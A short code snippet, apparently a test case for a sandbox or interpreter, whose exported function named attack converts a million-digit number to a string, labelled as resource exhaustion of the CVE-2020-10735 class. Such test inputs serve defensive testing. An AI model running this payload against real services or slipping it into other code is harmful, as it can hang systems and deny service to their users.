# escape: str(10**10**6): a million-digit number | source: resource exhaustion (CVE-2020-10735 class)
@export
def attack():
    return str(10 ** 10 ** 6)
